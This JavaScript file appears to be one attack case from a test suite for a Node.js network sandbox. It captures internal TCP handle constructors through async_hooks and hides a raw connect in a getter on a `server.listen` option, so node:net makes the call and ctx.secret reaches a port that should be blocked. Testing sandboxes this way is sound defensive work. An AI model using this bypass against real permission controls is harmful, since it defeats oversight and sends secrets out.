// Like handle-tcp, but the raw connect is a bound getter on a `server.listen` option (`backlog`):
// node:net reads it while listening, so the frame that calls the raw connect is node:net itself.
import asyncHooks from 'node:async_hooks';
import net from 'node:net';
export const meta = { kind: 'network', evidence: 'tcp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    let TCP;
    let ConnectWrap;
    const hook = asyncHooks.createHook({
      init(_id, type, _trigger, resource) {
        if (type === 'TCPWRAP') TCP = resource.constructor;
        if (type === 'TCPCONNECTWRAP') ConnectWrap = resource.constructor;
      },
    }).enable();
    const allowed = net.connect(ctx.allowedPort, '127.0.0.1', () => {
      allowed.destroy();
      hook.disable();
      try {
        const handle = new TCP(0);
        const req = new ConnectWrap();
        req.oncomplete = (status) => {
          if (status !== 0) return reject(new Error(`connect status ${status}`));
          const socket = new net.Socket({ handle, readable: true, writable: true });
          socket.on('error', reject);
          socket.end(ctx.secret, () => resolve('sent'));
        };
        const options = { host: '127.0.0.1', port: 0 };
        Object.defineProperty(options, 'backlog', { enumerable: true, get: TCP.prototype.connect.bind(handle, req, '127.0.0.1', ctx.tcpPort) });
        const server = net.createServer();
        server.on('error', () => {});
        server.listen(options, () => server.close());
      } catch (error) {
        reject(error);
      }
    });
    allowed.on('error', reject);
  });
}
